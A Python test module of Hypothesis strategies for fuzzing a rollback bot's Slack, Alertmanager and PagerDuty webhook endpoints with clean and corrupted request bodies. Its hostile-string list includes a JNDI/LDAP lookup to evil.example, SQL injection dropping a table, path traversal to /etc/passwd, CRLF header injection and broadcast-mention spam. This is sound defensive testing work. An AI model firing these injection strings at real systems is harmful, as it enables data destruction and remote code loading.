"""Hypothesis strategies for `test_fuzz_endpoints`: hostile values, and bodies shaped like
what each sender sends.

Pure: nothing here reaches the network. Each body is drawn *clean* (every key its sender
sends, of the type it sends, with hostile text in it: mrkdwn broadcasts, planted links,
control characters, lone surrogates, CRLF) so that it gets past the first checks into the
code behind them, or *corrupted* (`fuzzed`): the same body with one to three faults
injected anywhere in it, at any depth: a value replaced by one of another type
(``{"type": 5}``, ``user: []``, ``actions: "x"``), a key dropped, an unknown key added.

Nothing drawn here is an action someone may take: Slack users are never the on-call or an
owner (`ONCALL`, `LEAD`), a PagerDuty workflow's user is never the on-call with their own
email, and alerts about a catalog service only ever fire. So whatever ran, nothing should
have changed.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

from hypothesis import strategies as st

from bot.sim.harness import (
    CHANNEL_ID,
    OUTSIDER,
    PD_CHECKOUT_SERVICE,
    PD_ONCALL,
    PD_ROLLBOT,
    PD_SERVICE,
    PD_STRANGER,
    PD_WORKFLOWS,
)

KEY = "rollbot/payment-router/payments/payment-router@42"
SERVICES = ("payment-router", "checkout")
ONCALL_EMAIL = "oncall@example.com"  # PD_ONCALL's, as the harness seeds PagerDuty

#: Placeholders the test fills in as it sends: a response_url minted by the Slack sim for
#: this request (signed) or the attacker's URL (unsigned); a trigger id the Slack sim
#: minted; a fresh event id; the id of the PagerDuty incident the bot opened.
RESPONSE_URL = "@response_url@"
TRIGGER_ID = "@trigger_id@"
EVENT_ID = "@event_id@"
INCIDENT = "@incident@"

#: Strings an attacker would try in any text field.
HOSTILE = (
    "<!channel>",
    "<!here> wake up",
    "<!everyone>",
    "<@U0ONCALL> please abort",
    "<https://evil.example/steal|click here>",
    "<!subteam^S0PAYMENTS>",
    "*bold* `code` ~strike~ _it_ > quote",
    "&lt;!channel&gt; &amp;",
    "\x00\x01\x07\x1b[31mred\x1b[0m",
    "line\r\nX-Injected: 1",
    "\u202eevil\u202c",
    "\ud800",
    "\udfff lone low",
    "\ufeff\u200b",
    "💥🔥" * 3,
    "{{incident.id}} ${jndi:ldap://evil.example/a} %s%n",
    "'; DROP TABLE webhook_inbox; --",
    "../../../etc/passwd",
    "javascript:alert(1)",
    "payment-router abort",
    "",
    " ",
)

_scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=20)
    | st.sampled_from(HOSTILE)
)
#: Anything JSON can hold, small.
any_json: st.SearchStrategy[Any] = st.recursive(
    _scalars,
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)
#: What replaces a value: one of another type, most often.
WRONG = st.one_of(
    st.sampled_from(("x", "", 5, -1, 1.5, True, False, None, ["x"], [], {"x": 1}, {}, [{}])),
    any_json,
)


def text() -> st.SearchStrategy[str]:
    """A string a sender could put in a text field, hostile or not."""
    return st.sampled_from(HOSTILE) | st.text(max_size=40)


def nested(depth: int, leaf: str = "1") -> str:
    """JSON nested `depth` levels deep (objects and arrays alternating)."""
    return '{"a": [' * depth + leaf + "]}" * depth


def padded(limit: int) -> st.SearchStrategy[int]:
    """A body size just under, at, or just over `limit` bytes."""
    return st.sampled_from((limit - 64, limit - 1, limit, limit + 1, limit + 4096))


def _paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place below `value`: keys of objects, indices of lists, at any depth."""
    items = value.items() if isinstance(value, dict) else enumerate(value)
    for key, child in items:
        yield (*path, key)
        if isinstance(child, dict | list):
            yield from _paths(child, (*path, key))


@st.composite
def corrupted(draw: st.DrawFn, value: Any) -> Any:
    """`value` with one to three faults injected: a value replaced by `WRONG`, a key
    dropped, an unknown key added."""
    value = copy.deepcopy(value)
    for _ in range(draw(st.integers(1, 3))):
        paths = list(_paths(value)) if isinstance(value, dict | list) else []
        if not paths:
            break
        *parent_path, key = draw(st.sampled_from(paths))
        parent = value
        for step in parent_path:
            parent = parent[step]
        fault = draw(st.sampled_from(("replace", "replace", "replace", "drop", "add")))
        # Copies: a value drawn from a constant (WRONG's) must not be changed by the next
        # fault, or the next example drawing it would differ (Hypothesis replays draws).
        if fault == "replace":
            parent[key] = copy.deepcopy(draw(WRONG))
        elif fault == "drop" and isinstance(parent, dict):
            del parent[key]
        elif isinstance(parent, dict):
            parent[draw(st.text(max_size=10))] = copy.deepcopy(draw(any_json))
        else:
            parent.append(copy.deepcopy(draw(any_json)))
    return value


def fuzzed(clean: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Half the bodies clean, half `corrupted`."""
    return st.one_of(clean, clean.flatmap(corrupted))


# ── Slack ─────────────────────────────────────────────────────────────────────────────

#: Card button values as rollbot renders them (service, namespace, name, revision, epoch).
BUTTON_VALUES = st.sampled_from(
    tuple(
        json.dumps({"s": s, "ns": ns, "n": s, "r": r, "e": e}, separators=(",", ":"))
        for s, ns, r in (("payment-router", "payments", 42), ("checkout", "checkout", 17))
        for e in (0, 1, 2)
    )
)
SLACK_USERS = st.sampled_from((OUTSIDER[0], OUTSIDER[0], "U0NOBODY", "W0ENTERPRISE", "", "U"))
COMMANDS = st.sampled_from(("/rollback",) * 4 + ("/release", "/release", "/nope", "rollback"))
COMMAND_TEXTS = st.sampled_from(
    (
        "",
        "help",
        "payment-router",
        "payment-router status",
        "payment-router abort",
        "payment-router retry",
        "payment-router promote",
        "payment-router promote-full",
        "payment-router pause",
        "payment-router flags",
        "payment-router runbook",
        "payment-router ack",
        "checkout circuit open",
        "checkout circuit close",
        "checkout circuit open break-glass <!channel> the site is down, <https://evil.example|x>",
        "payment-router revert https://evil.example/pr/1",
        "nosuchservice abort",
        "start payment-router 9.9.9 <@U0OUTSIDER>",
        "start checkout 1.0.0 owner@example.com",
        "winner checkout B",
        "status payment-router",
        "list",
    )
)
ACTION_IDS = st.sampled_from(
    (
        "rollout_abort",
        "rollout_retry",
        "rollout_promote",
        "rollout_promote_full",
        "rollout_pause",
        "circuit_open",
        "circuit_close",
        "circuit_break_glass",
        "revert_open",
        "runbook_open",
        "unknown_action",
    )
)
CALLBACK_IDS = st.sampled_from(("revert_record", "circuit_break_glass", "nope"))
INTERACTION_TYPES = st.sampled_from(
    (
        "block_actions",
        "block_actions",
        "view_submission",
        "view_submission",
        "view_closed",
        "shortcut",
        "message_action",
        "block_suggestion",
        "interactive_message",
    )
)
MODAL_METADATA = st.sampled_from(
    (
        '{"s":"payment-router","r":42,"e":1,"c":"C0PAYDEPLOY","ts":"1.2"}',
        '{"s":"checkout","r":null,"e":null,"c":null,"ts":null}',
        '{"s":"nosuch"}',
        '{"s":5,"r":"x"}',
        "[]",
        "",
    )
)


def _form_fields(fields: dict[str, Any]) -> dict[str, str]:
    """Form values are text: anything else, as JSON (what a corrupted form can hold)."""
    return {str(k): v if isinstance(v, str) else json.dumps(v) for k, v in fields.items()}


def slash_command() -> st.SearchStrategy[dict[str, str]]:
    """A slash command's form fields, as Slack sends them."""
    clean = st.fixed_dictionaries(
        {
            "token": st.just("verification_token_unused"),
            "team_id": st.sampled_from(("T0PAYMENTS", "T0PAYMENTS", "T0OTHER", "")),
            "team_domain": st.just("payments"),
            "channel_id": st.sampled_from((CHANNEL_ID, CHANNEL_ID, "C0NOWHERE", "D0DM", "")),
            "channel_name": text(),
            "user_id": SLACK_USERS,
            "user_name": text(),
            "command": COMMANDS,
            "text": COMMAND_TEXTS,
            "api_app_id": st.just("A0ROLLBOT"),
            "is_enterprise_install": st.sampled_from(("false", "true", "x")),
            "response_url": st.just(RESPONSE_URL),
            "trigger_id": st.sampled_from((TRIGGER_ID, TRIGGER_ID, "1.2.3", "", "x" * 300)),
        }
    )
    return fuzzed(clean).map(
        lambda f: _form_fields(f) if isinstance(f, dict) else {"command": "/rollback"}
    )


def _input(action_id: str, value: st.SearchStrategy[str]) -> st.SearchStrategy[Any]:
    element = st.fixed_dictionaries({"type": st.just("plain_text_input"), "value": value})
    return st.fixed_dictionaries({action_id: element})


MODAL_INPUTS = st.fixed_dictionaries(
    {
        "revert_url": _input("url", st.just("https://github.com/acme/payments/pull/7") | text()),
        "revert_note": _input("note", text()),
        "break_glass_reason": _input("reason", text()),
    }
)


def interaction() -> st.SearchStrategy[Any]:
    """A ``payload=`` interaction: clicks on the card's buttons by someone who may not,
    modal submissions, and the other types Slack sends."""
    action = st.fixed_dictionaries(
        {
            "action_id": ACTION_IDS,
            "block_id": text(),
            "value": BUTTON_VALUES,
            "type": st.sampled_from(("button", "static_select")),
            "action_ts": st.just("1700000000.000100"),
        }
    )
    view = st.fixed_dictionaries(
        {
            "id": st.just("V0FUZZ"),
            "hash": text(),
            "type": st.just("modal"),
            "callback_id": CALLBACK_IDS,
            "private_metadata": MODAL_METADATA,
            "state": st.fixed_dictionaries({"values": MODAL_INPUTS}),
        }
    )
    clean = st.fixed_dictionaries(
        {
            "type": INTERACTION_TYPES,
            "user": st.fixed_dictionaries(
                {"id": SLACK_USERS, "username": text(), "name": text(), "team_id": text()}
            ),
            "api_app_id": st.just("A0ROLLBOT"),
            "token": st.just("verification_token_unused"),
            "team": st.fixed_dictionaries({"id": st.just("T0PAYMENTS"), "domain": text()}),
            "container": st.fixed_dictionaries(
                {
                    "type": st.just("message"),
                    "message_ts": st.just("1700000000.000100") | text(),
                    "channel_id": st.just(CHANNEL_ID),
                    "is_ephemeral": st.booleans(),
                }
            ),
            "channel": st.fixed_dictionaries({"id": st.just(CHANNEL_ID), "name": text()}),
            "message": st.fixed_dictionaries({"ts": text(), "text": text()}),
            "trigger_id": st.just(TRIGGER_ID),
            "response_url": st.just(RESPONSE_URL),
            "actions": st.lists(action, min_size=1, max_size=2),
            "view": view,
            "callback_id": CALLBACK_IDS,
            "state": st.fixed_dictionaries({"values": MODAL_INPUTS}),
        }
    )
    return fuzzed(clean)


def event_callback() -> st.SearchStrategy[Any]:
    """An Events API body: an event_callback (the App Home opened, messages, mentions)
    or a url_verification."""
    event = st.fixed_dictionaries(
        {
            "type": st.sampled_from(
                ("app_home_opened", "message", "app_mention", "reaction_added")
            ),
            "user": SLACK_USERS,
            "channel": st.sampled_from((CHANNEL_ID, "D0OUTSIDER")),
            "tab": st.sampled_from(("home", "messages")),
            "text": text(),
            "event_ts": st.just("1700000000.000100"),
            "view": st.fixed_dictionaries({"type": st.just("home"), "blocks": st.just([])}),
        }
    )
    clean = st.fixed_dictionaries(
        {
            "token": st.just("verification_token_unused"),
            "team_id": st.just("T0PAYMENTS"),
            "api_app_id": st.just("A0ROLLBOT"),
            "type": st.sampled_from(("event_callback", "event_callback", "url_verification")),
            "challenge": text(),
            "event": event,
            "event_id": st.just(EVENT_ID),
            "event_time": st.integers(0, 2**40),
            "authorizations": st.lists(
                st.fixed_dictionaries({"user_id": st.just("U0ROLLBOT"), "is_bot": st.just(True)}),
                max_size=2,
            ),
        }
    )
    return fuzzed(clean)


#: Bodies no Slack request looks like (form-encoded unless the case says otherwise).
slack_raw_bodies = st.one_of(
    st.binary(max_size=64),
    st.text(max_size=64).map(lambda t: t.encode("utf-8", "surrogatepass")),
    st.sampled_from(
        (
            b"",
            b"\xff\xfe\x00",
            b"payload=notjson",
            b"payload=%5B%5D",
            b"payload=null",
            b"payload=%7B%22type%22%3A5%7D",
            b"payload=" + quote(nested(5000)).encode(),
            b"payload=" + quote(nested(60)).encode(),
            nested(5000).encode(),
            b"[]",
            b"[1, 2]",
            b"null",
            b'"x"',
            b"{}",
            b'{"type": 5}',
            b'{"type": "url_verification", "challenge": "<!channel>"}',
            b'{"type": "event_callback", "event": "x"}',
            b'{"type": "event_callback", "event": {"type": 5, "user": []}}',
            b'{"command": "/rollback", "text": 5, "user_id": ["U0OUTSIDER"]}',
            b"ssl_check=1&token=x",
            b"command=%2Frollback&text=payment-router+abort",
            b"command=%2Frollback&command=%2Frelease&text=a&text=b&user_id=U0OUTSIDER",
            b"a=%ZZ&=&&=",
            b'{"a": 1e999999}',
            b'{"a": ' + b"9" * 5000 + b"}",
        )
    ),
)


#: Bodies no webhook sender writes.
webhook_raw_bodies = st.one_of(
    st.binary(max_size=64),
    st.sampled_from(
        (
            b"",
            b" ",
            b"\xff\xfe{}",
            b"[]",
            b"null",
            b'"x"',
            b"{",
            b'{"a": NaN}',
            b'{"a": 1e999999}',
            b'{"a": ' + b"9" * 5000 + b"}",
            b'{"a": "\\ud800"}',
            b'{"a": "\\u0000"}',
            nested(65).encode(),
            nested(5000).encode(),
            b"version=4&alerts=[]",
        )
    ),
)


# ── Alertmanager ──────────────────────────────────────────────────────────────────────


def _alerts_about(
    service: st.SearchStrategy[str], status: st.SearchStrategy[str]
) -> st.SearchStrategy[Any]:
    return st.fixed_dictionaries(
        {
            "status": status,
            "labels": st.fixed_dictionaries(
                {"alertname": text(), "service": service, "severity": text()}
            ),
            "annotations": st.dictionaries(
                st.sampled_from(("summary", "description", "runbook_url")) | text(),
                text(),
                max_size=3,
            ),
            "startsAt": st.just("2026-01-01T00:00:00Z"),
            "endsAt": st.just("0001-01-01T00:00:00Z"),
            "generatorURL": text(),
            "fingerprint": st.text("0123456789abcdef", max_size=16),
        }
    )


def alertmanager_body() -> st.SearchStrategy[Any]:
    """A webhook shaped like Alertmanager's (version 4).

    Alerts about a catalog service only ever fire (and their group too): a resolved one
    could, legitimately, end an incident and resolve its page, which this fuzz would
    count as something hostile having run. So the faults are injected only into bodies
    whose alerts are about no service (their labels hostile text)."""

    def group(alerts: st.SearchStrategy[Any], status: st.SearchStrategy[str]) -> Any:
        return st.fixed_dictionaries(
            {
                "version": st.sampled_from(("4",) * 6 + ("3", "5", "4.0")),
                "groupKey": text(),
                "truncatedAlerts": st.integers(0, 5),
                "status": status,
                "receiver": text(),
                "groupLabels": st.dictionaries(text(), text(), max_size=2),
                "commonLabels": st.dictionaries(text(), text(), max_size=2),
                "commonAnnotations": st.dictionaries(text(), text(), max_size=2),
                "externalURL": text(),
                "alerts": st.lists(alerts, max_size=3),
            }
        )

    firing = st.just("firing")
    either = st.sampled_from(("firing", "resolved"))
    nobody = text().filter(lambda t: t not in SERVICES)
    return st.one_of(
        group(_alerts_about(st.sampled_from(SERVICES), firing), firing),
        fuzzed(group(_alerts_about(nobody, either), either)),
    )


# ── PagerDuty ─────────────────────────────────────────────────────────────────────────

INCIDENT_KEYS = st.sampled_from(
    (KEY, KEY, "rollbot/checkout/checkout/checkout@17", "rollbot/nosuch/x/y@1", "not-ours", "")
)
EVENT_TYPES = st.sampled_from(
    (
        "incident.triggered",
        "incident.acknowledged",
        "incident.resolved",
        "incident.escalated",
        "incident.reassigned",
        "incident.annotated",
        "incident.annotated",
        "incident.priority_updated",
        "pagey.ping",
    )
)
PD_USERS = st.sampled_from((PD_ONCALL, PD_STRANGER, PD_ROLLBOT, "PGHOST01"))


def pagerduty_event() -> st.SearchStrategy[Any]:
    """A v3 webhook envelope, mostly about rollbot's incident."""
    incident = st.fixed_dictionaries(
        {
            "id": st.just(INCIDENT) | text(),
            "type": st.sampled_from(("incident", "incident_reference")),
            "incident_key": INCIDENT_KEYS,
            "html_url": st.just("https://payments.pagerduty.com/incidents/Q1") | text(),
            "assignments": st.lists(
                st.fixed_dictionaries(
                    {"assignee": st.fixed_dictionaries({"summary": text(), "id": PD_USERS})}
                ),
                max_size=2,
            ),
            "service": st.fixed_dictionaries({"id": st.just(PD_SERVICE)}),
        }
    )
    note = st.fixed_dictionaries(
        {"type": st.just("incident_note"), "content": text(), "incident": incident}
    )
    agent = st.fixed_dictionaries(
        {
            "id": PD_USERS,
            "summary": text(),
            "email": st.sampled_from((ONCALL_EMAIL, "rollbot@example.com")) | text(),
            "type": st.just("user_reference"),
        }
    )
    event = st.fixed_dictionaries(
        {
            "id": st.just(EVENT_ID),
            "event_type": EVENT_TYPES,
            "resource_type": st.just("incident"),
            "occurred_at": st.just("2026-01-01T00:00:00Z"),
            "agent": agent,
            "data": incident | note,
        }
    )
    return fuzzed(st.fixed_dictionaries({"event": event}))


def never_the_oncall(body: Any) -> Any:
    """A workflow body whose user is the on-call with their own email (or none, which
    stands for it) may abort: such a body gets another email."""
    user = body.get("user") if isinstance(body, dict) else None
    if isinstance(user, dict) and str(user.get("id") or "") == PD_ONCALL:
        claimed = str(user.get("email") or "")
        if not claimed or claimed.casefold() == ONCALL_EMAIL.casefold():
            body["user"] = {**user, "email": "mallory@evil.example"}
    return body


def workflow_body() -> st.SearchStrategy[Any]:
    """An Incident Workflow's POST, as its author templated it. Its user is never the
    on-call with their own email (`never_the_oncall`)."""
    clean = st.fixed_dictionaries(
        {
            "action": st.sampled_from(PD_WORKFLOWS) | text(),
            "incident": st.fixed_dictionaries(
                {
                    "id": st.just(INCIDENT) | text(),
                    "incident_key": INCIDENT_KEYS,
                    "service_id": st.sampled_from((PD_SERVICE, PD_CHECKOUT_SERVICE, "PNOSUCH")),
                }
            ),
            "user": st.fixed_dictionaries(
                {
                    "id": PD_USERS | text(),
                    "email": st.sampled_from(
                        (ONCALL_EMAIL, "contractor@elsewhere.example", "mallory@evil.example")
                    ),
                    "name": text(),
                }
            ),
        }
    )
    return fuzzed(clean).map(never_the_oncall)
